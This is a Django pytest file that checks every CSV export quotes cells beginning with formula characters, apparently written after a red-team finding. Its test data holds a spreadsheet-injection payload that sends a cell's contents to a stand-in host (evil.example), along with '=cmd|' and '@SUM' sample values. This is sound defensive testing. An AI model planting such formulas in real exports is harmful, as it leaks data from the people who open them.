"""Issue 15, item 5: one CSV writer for every export, which neutralises formulas.

The red team renamed a service `=HYPERLINK("http://evil.example/?d="&B2,"x")` and found it unprotected
in `/boite/mesures/origin_service.csv`. Every export is requested here through its real URL with hostile
text in the data, and read back with the csv module.
"""

import csv
import io

import pytest
from django.urls import reverse
from django.utils import timezone

from catalogue.models import CatalogueIndexPage, FamilyPage, ServicePage
from home.exports import FORMULA_PREFIXES, csv_text, safe_cell
from kpis.models import Survey, SurveyAnswer
from requests_box import services as box_services

HOSTILE = '=HYPERLINK("http://evil.example/?d="&B2,"x")'

pytestmark = pytest.mark.django_db


def read_csv(response, delimiter=","):
    text = b"".join(response.streaming_content if response.streaming else [response.content]).decode(
        "utf-8-sig"
    )
    return list(csv.reader(io.StringIO(text), delimiter=delimiter))


@pytest.mark.parametrize("prefix", FORMULA_PREFIXES)
def test_every_formula_prefix_is_neutralised_and_numbers_stay_numbers(prefix):
    assert safe_cell(f"{prefix}1+1") == f"'{prefix}1+1"
    assert safe_cell(-25.0) == -25.0 and safe_cell(3) == 3 and safe_cell(None) == ""
    assert safe_cell(safe_cell(f"{prefix}x")) == f"'{prefix}x"  # applying it twice changes nothing more
    rows = list(csv.reader(io.StringIO(csv_text([["a", f"{prefix}b", -1]]), newline="")))
    assert rows == [["a", f"'{prefix}b", "-1"]]


def test_a_service_named_like_a_formula_is_quoted_in_the_measures_export(
    client_for, relationship_manager, user_a
):
    index = CatalogueIndexPage.objects.get()
    family = index.add_child(instance=FamilyPage(title="Poste", slug="poste", code="POSTE", colour="#1f4e8c"))
    service = family.add_child(instance=ServicePage(title=HOSTILE, slug="messagerie", code="MAIL"))
    request = box_services.create_request(
        channel="web",
        subject="Accès",
        text="Merci",
        contact=user_a.contact,
        submitted_by=user_a,
        acknowledge=False,
    )
    request.service = service
    request.save(update_fields=["service"])
    response = client_for(relationship_manager).get(
        reverse("requests_box:measures_csv", args=["origin_service"])
    )
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    rows = read_csv(response, delimiter=";")
    assert ["'" + HOSTILE, "1"] in rows
    assert not any(cell.startswith(FORMULA_PREFIXES) for row in rows for cell in row)


def test_a_comment_like_a_formula_is_quoted_in_the_survey_export(client_for, relationship_manager, entity_a):
    survey = Survey.objects.create(code="baro", title="Baromètre", kind="barometre")
    SurveyAnswer.objects.create(
        survey=survey,
        kind="barometre",
        answered_at=timezone.now(),
        entity=entity_a,
        nps=9,
        comment="@SUM(A1)",
    )
    response = client_for(relationship_manager).get(reverse("kpis:survey_export_csv", args=["baro"]))
    rows = read_csv(response)
    assert rows[1][7] == "'@SUM(A1)" and rows[1][4] == "9"  # comment, nps


def test_wagtail_report_exports_quote_formulas_too(client_for, relationship_manager, entity_a):
    from wagtail.log_actions import log

    from directory.models import Contact

    contact = Contact.objects.create(
        email="x@groupe-aurelia.fr", first_name="=cmd|", last_name="x", entity=entity_a
    )
    log(instance=contact, action="wagtail.edit", user=relationship_manager)
    response = client_for(relationship_manager).get(
        reverse("wagtailadmin_reports:site_history"), {"export": "csv"}
    )
    rows = read_csv(response)
    assert any(cell.startswith("'=cmd|") for row in rows for cell in row), rows
    assert not any(cell.startswith(FORMULA_PREFIXES) for row in rows for cell in row)
